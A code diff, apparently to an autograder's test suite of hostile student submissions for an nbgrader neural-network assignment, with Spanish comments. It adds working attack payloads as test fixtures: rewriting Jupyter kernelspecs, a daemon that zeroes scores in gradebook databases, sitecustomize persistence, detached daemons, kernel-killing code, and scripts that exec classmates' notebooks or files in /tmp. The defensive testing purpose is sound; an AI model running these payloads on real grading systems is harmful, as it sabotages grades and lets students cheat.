@@ -2,7 +2,11 @@
 
 Todas usan la unidad red_xor (13 puntos: 11 automáticos y 2 de la pregunta escrita). Las
 ejecuta tests/test_hostiles.py por la cadena real (nbgrader + verificación aislada, en paralelo)
-y ``python -m autograder hostiles`` las muestra al instructor.
+junto a estudiantes honestos (que deben conservar su nota completa y sin banderas) y
+``python -m autograder hostiles`` las muestra al instructor.
+
+Varias entregas hacen algo solo en el kernel de nbgrader (``'ipykernel' in sys.modules``) o
+solo en el proceso aislado: así se prueba cada lado por separado.
 """
 from __future__ import annotations
 
@@ -11,7 +15,7 @@ import json
 
 import nbformat
 
-from .muestra import SOLUCION, Alumno
+from .muestra import SOLUCION, Alumno, fuente_de
 
 UNIDAD = "red_xor"
 FUNCIONES = ("feedForward", "costoGlobal", "backProp", "entrenarRed")
@@ -20,6 +24,143 @@ COMPLETO = {"prueba_feedForward": 2, "prueba_costoGlobal": 2, "prueba_backProp":
             "prueba_entrenarRed": 3}
 SIN_BACKPROP = {"prueba_feedForward": 2, "prueba_costoGlobal": 2}
 CORREGIDA = "cuenta la verificación aislada"
+REEJECUTADA = "el kernel de nbgrader no terminó la entrega"
+TODO_MAL = {"feedForward": "feedForward__sin_sesgos", "costoGlobal": "costoGlobal__sin_1_m",
+            "backProp": "backProp__signo", "entrenarRed": "entrenarRed__ascenso"}
+# Plazo por celda y por llamada, y presupuesto de reloj de cada entrega en la suite (un tercio,
+# 40 s, para la verificación aislada). Las entregas honestas tardan unos 5 s.
+TIMEOUT = 10
+PRESUPUESTO = 120
+
+
+def _solo_en(lado: str, fuente: str) -> str:
+    """``fuente`` se ejecuta solo en el kernel de nbgrader o solo en el proceso aislado."""
+    condicion = "in" if lado == "kernel" else "not in"
+    cuerpo = "\n".join("    " + l for l in fuente.splitlines())
+    return f"import sys\nif 'ipykernel' {condicion} sys.modules:\n{cuerpo}"
+
+
+def _envolver(funcion: str, antes: str) -> str:
+    """Redefine ``funcion`` (ya definida por su celda) para que ejecute ``antes`` primero."""
+    firma = {"feedForward": "X, w1, w2, b1, b2", "costoGlobal": "y_est, y",
+             "backProp": "X, y, w1, w2, b1, b2, a2, a1",
+             "entrenarRed": "epocas, lr, X, y, w1, b1, w2, b2, a1, a2"}[funcion]
+    cuerpo = "\n".join("    " + l for l in antes.splitlines())
+    return (f"_{funcion}_original = {funcion}\n\ndef {funcion}({firma}):\n{cuerpo}\n"
+            f"    return _{funcion}_original({firma})")
+
+
+# El proceso aislado escribe en cada descriptor abierto la cabecera de un mensaje de 4 KiB, un
+# solo byte, y se duerme: el calificador no debe quedarse esperando el resto.
+_MENSAJE_A_MEDIAS = """import os, struct, time
+for fd in range(3, 64):
+    try:
+        os.write(fd, struct.pack('>Q', 4096) + b'x')
+    except OSError:
+        pass
+time.sleep(10**6)"""
+
+# Reescribe todo kernel.json que encuentre (el secuestro del kernelspec), deja un demonio que
+# durante 10 minutos pone a 0 las notas de cualquier gradebook que vea, y prueba a instalar
+# código que corra en cada Python futuro (sitecustomize).
+_SECUESTRO = r"""import glob, json, os, sys
+objetivos = set()
+for patron in ['/tmp/**/kernel.json', '/var/tmp/**/kernel.json', '/usr/local/share/jupyter/**/kernel.json',
+               os.path.join(sys.prefix, 'share', 'jupyter', '**', 'kernel.json'),
+               os.path.expanduser('~/.local/share/jupyter/**/kernel.json')]:
+    objetivos.update(glob.glob(patron, recursive=True))
+for carpeta in os.environ.get('JUPYTER_PATH', '').split(os.pathsep) + [os.environ.get('CALIFICADOR_KERNELS', '')]:
+    if carpeta:
+        objetivos.update(glob.glob(os.path.join(carpeta, '**', 'kernel.json'), recursive=True))
+demonio = '''import glob, os, sqlite3, time
+for _ in range(1200):
+    for db in glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/work/**/gradebook.db', recursive=True):
+        try:
+            c = sqlite3.connect(db); c.execute('UPDATE grade SET auto_score = 0'); c.commit()
+        except Exception:
+            pass
+    time.sleep(0.5)
+'''
+for ruta in objetivos:
+    try:
+        spec = json.load(open(ruta))
+        spec['argv'] = [sys.executable, '-c', 'import subprocess, sys; subprocess.Popen([sys.executable, "-c", %r], start_new_session=True); import os; os.execv(sys.argv[1], sys.argv[1:])' % demonio] + spec['argv']
+        json.dump(spec, open(ruta, 'w'))
+    except Exception:
+        pass
+for sitio in [p for p in sys.path if p.endswith('site-packages')] + [os.path.dirname(os.__file__)]:
+    try:
+        open(os.path.join(sitio, 'sitecustomize.py'), 'a').write('import os  # secuestro')
+    except OSError:
+        pass
+import subprocess
+subprocess.Popen([sys.executable, '-c', demonio], start_new_session=True)"""
+
+# Deja demonios (doble fork, sesión propia) que duermen diez minutos.
+_DEMONIOS = """import os
+pid = os.fork()
+if pid == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv('/bin/sleep', ['sleep', '600'])
+    os.execv('/bin/true', ['true'])
+os.waitpid(pid, 0)"""
+
+# Busca cuadernos de compañeros (descargas/, originales/, entregas/, submitted/...) y se queda
+# con la primera definición de cada función que pase la prueba visible.
+_COPIA_DE_COMPANEROS = r"""import glob, json, os
+from course import red_xor as _xor
+_vistos = set()
+_raices = ['/']
+_d = os.getcwd()
+while _d != '/':
+    _raices.append(_d)
+    _d = os.path.dirname(_d)
+for _raiz in _raices:
+    for _ruta in glob.glob(os.path.join(_raiz, '**', '*.ipynb'), recursive=True):
+        if _ruta in _vistos or len(_vistos) > 500:
+            continue
+        _vistos.add(_ruta)
+        try:
+            _celdas = json.load(open(_ruta))['cells']
+        except Exception:
+            continue
+        for _c in _celdas:
+            _fuente = ''.join(_c.get('source', ''))
+            for _f in ('feedForward', 'costoGlobal', 'backProp', 'entrenarRed'):
+                if _c.get('cell_type') == 'code' and f'def {_f}(' in _fuente and _f not in globals():
+                    _espacio = dict(globals())
+                    try:
+                        exec(_fuente, _espacio)
+                        getattr(_xor, 'probar_' + _f)(_espacio[_f])
+                        globals()[_f] = _espacio[_f]
+                    except BaseException:
+                        pass"""
+
+# Una feedForward correcta que, solo en el kernel de nbgrader, lo mata: una celda que solo
+# define funciones, así que hace falta la última ejecución de respaldo.
+_FEEDFORWARD_QUE_MATA_AL_KERNEL = """def feedForward(X, w1, w2, b1, b2):
+    import os, sys
+    if 'ipykernel' in sys.modules:
+        os._exit(1)
+    a1 = sigmoide(w1 @ X + b1)
+    a2 = sigmoide(w2 @ a1 + b2)
+    return a1, a2"""
+
+_RUTAS_COMPARTIDAS = ("/tmp/xor_de_otro.py", "/var/tmp/xor_de_otro.py", "/dev/shm/xor_de_otro.py",
+                      "/home/estudiante/xor_de_otro.py")
+
+
+def _copiar_a_tmp() -> str:
+    """Escribe una solución completa donde otro estudiante podría leerla."""
+    codigo = "\n\n".join(fuente_de(UNIDAD, f, SOLUCION) for f in FUNCIONES)
+    return (f"import os\ncodigo = {codigo!r}\nfor ruta in {_RUTAS_COMPARTIDAS!r}:\n"
+            "    try:\n        open(ruta, 'w').write(codigo)\n        os.chmod(ruta, 0o666)\n"
+            "    except OSError:\n        pass")
+
+
+_LEER_DE_TMP = (f"import numpy as np\nfor ruta in {_RUTAS_COMPARTIDAS!r}:\n"
+                "    try:\n        exec(open(ruta).read())\n    except OSError:\n        pass")
 
 
 def _tras(fuente: str, despues_de: str = "prueba_feedForward") -> tuple:
@@ -114,7 +255,7 @@ CASOS = [
            banderas=("__eq__",)),
     Alumno("importa_solucion", "deja los esbozos y copia la solución del calificador",
            celdas_extra=tuple((f, "from solutions.red_xor import *") for f in FUNCIONES),
-           banderas=("importa `solutions", CORREGIDA)),
+           banderas=("importa `solutions",)),
     Alumno("reemplaza_pruebas", "funciones mal y redefine las pruebas visibles para que pasen",
            respuestas={f: "feedForward__sin_sesgos" if f == "feedForward" else SOLUCION
                        for f in FUNCIONES},
@@ -208,18 +349,79 @@ CASOS = [
            celdas_extra=_tras("import urllib.request\n"
                               "urllib.request.urlopen('http://example.com', timeout=3)"),
            notas=COMPLETO, banderas=("urllib",)),
+    # --- lo que ve y lo que deja el código del estudiante (issues de seguridad) -------------
+    Alumno("secuestra_kernelspec", "todo mal; reescribe los kernelspec, deja un demonio que "
+           "pone a 0 los gradebooks y prueba a instalar sitecustomize",
+           respuestas=TODO_MAL, celdas_extra=_tras(_SECUESTRO, "configuracion"),
+           banderas=("importa `subprocess`",)),
+    Alumno("secuestra_desde_el_aislado", "todo mal; lo mismo, desde el proceso aislado",
+           respuestas=TODO_MAL, celdas_extra=_tras(_solo_en("aislado", _SECUESTRO),
+                                                   "configuracion"),
+           banderas=("importa `subprocess`",)),
+    Alumno("deja_demonios", "todo bien; deja demonios en el kernel y en el proceso aislado",
+           respuestas=BIEN, celdas_extra=_tras(_DEMONIOS), notas=COMPLETO,
+           banderas=("crea procesos",)),
+    Alumno("mensaje_a_medias", "todo bien; en el proceso aislado anuncia 4 KiB, escribe 1 byte "
+           "y se duerme", respuestas=BIEN,
+           celdas_extra=_tras(_solo_en("aislado", _MENSAJE_A_MEDIAS)), notas=COMPLETO,
+           banderas=("celdas desactivadas",)),
+    Alumno("mensaje_a_medias_en_funcion", "feedForward hace lo mismo al llamarla (solo en el "
+           "proceso aislado)", respuestas=BIEN,
+           celdas_extra=_tras(_envolver("feedForward", _solo_en("aislado", _MENSAJE_A_MEDIAS)),
+                              "feedForward"),
+           notas={"prueba_costoGlobal": 2, "prueba_backProp": 4},  # entrenarRed usa feedForward
+           banderas=("mensaje a medias",)),
+    # feedForward se llama 5 veces en sus pruebas: 5 × 9 s > 40 s, y cada llamada cabe en 10 s.
+    Alumno("duerme_en_cada_llamada", "todo bien, pero cada llamada duerme 9 s en el proceso "
+           "aislado: se acaba el presupuesto de la verificación", respuestas=BIEN,
+           celdas_extra=tuple((f, _envolver(f, _solo_en("aislado", "import time\n"
+                                                         "time.sleep(9)")))
+                              for f in FUNCIONES),
+           banderas=("superó el presupuesto de tiempo de la verificación",)),
+    Alumno("kernel_muere_despues", "todo bien; una celda posterior mata solo al kernel de "
+           "nbgrader", respuestas=BIEN,
+           celdas_extra=_tras(_solo_en("kernel", "import os\nos._exit(1)"),
+                              "prueba_costoGlobal"),
+           notas=COMPLETO, banderas=(REEJECUTADA, "solo con las celdas que definen funciones")),
+    Alumno("kernel_muere_en_funcion", "todo bien; feedForward mata al kernel de nbgrader (no al "
+           "proceso aislado)", respuestas={f: SOLUCION for f in FUNCIONES if f != "feedForward"},
+           celdas_extra=_tras(_FEEDFORWARD_QUE_MATA_AL_KERNEL, "feedForward"),
+           notas=COMPLETO, banderas=(REEJECUTADA, "sin el código del estudiante")),
+    Alumno("kernel_ignora_interrupcion", "todo bien; en el kernel ignora SIGINT y no termina "
+           "nunca", respuestas=BIEN,
+           celdas_extra=_tras(_solo_en("kernel", "import signal\n"
+                                       "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                                       "while True:\n    pass")),
+           notas=COMPLETO, banderas=(REEJECUTADA,)),
+    Alumno("copia_a_tmp", "todo bien; deja una solución completa en /tmp, /var/tmp, /dev/shm",
+           respuestas=BIEN, celdas_extra=_tras(_copiar_a_tmp(), "configuracion"),
+           notas=COMPLETO),
+    Alumno("lee_de_tmp", "sin código propio: usa lo que otro haya dejado en /tmp",
+           celdas_extra=_tras(_LEER_DE_TMP, "configuracion"), banderas=("exec",)),
+    Alumno("copia_de_companeros", "sin código propio: carga los cuadernos de sus compañeros "
+           "(descargas/, originales/, entregas/) y se queda con lo que pasa la prueba visible",
+           celdas_extra=_tras(_COPIA_DE_COMPANEROS, "configuracion"),
+           banderas=("exec",)),
 ]
 
+# Estudiantes honestos de la misma clase: se califican después de los casos (orden alfabético)
+# y deben conservar su nota completa sin banderas.
+HONESTOS = [Alumno(nombre, "todo bien", respuestas=BIEN, notas=COMPLETO)
+            for nombre in ("ana_garcia", "victima_1", "victima_2", "victima_3")]
 
-def ejecutar(raiz, *, trabajadores: int = 2, timeout: int = 20, casos=None) -> dict:
-    """Califica los casos en un curso nuevo en ``raiz``. Devuelve {nombre: fila de notas}."""
+
+def ejecutar(raiz, *, trabajadores: int = 2, timeout: int = TIMEOUT, casos=None,
+             presupuesto: float = PRESUPUESTO) -> tuple[dict, dict]:
+    """Califica los casos y los honestos en un curso nuevo en ``raiz``, con las entregas también
+    en descargas/ (como las deja el LMS). Devuelve ({nombre: fila de notas}, {nombre: Estado})."""
+    import shutil
+
     from . import muestra
-    from .__main__ import calificar
+    from .lote import calificar
 
-    # Un estudiante honesto, para que «lee_otros» tenga a quién intentar leer.
-    honesto = Alumno("ana_garcia", "todo bien", respuestas=BIEN, notas=COMPLETO)
-    curso = muestra.montar_clase(raiz, {UNIDAD: list(casos or CASOS) + [honesto]},
-                                 timeout=timeout)
-    calificar(curso, [UNIDAD], trabajadores=trabajadores)
+    curso = muestra.montar_clase(raiz, {UNIDAD: list(casos or CASOS) + HONESTOS},
+                                 timeout=timeout, presupuesto=presupuesto)
+    shutil.copytree(curso.raiz / "entregas", curso.raiz / "descargas")
+    estados = {e.alumno: e for e in calificar(curso, [UNIDAD], trabajadores=trabajadores)}
     _, filas = curso.notas(UNIDAD)
-    return {f["alumno"]: f for f in filas}
+    return {f["alumno"]: f for f in filas}, estados
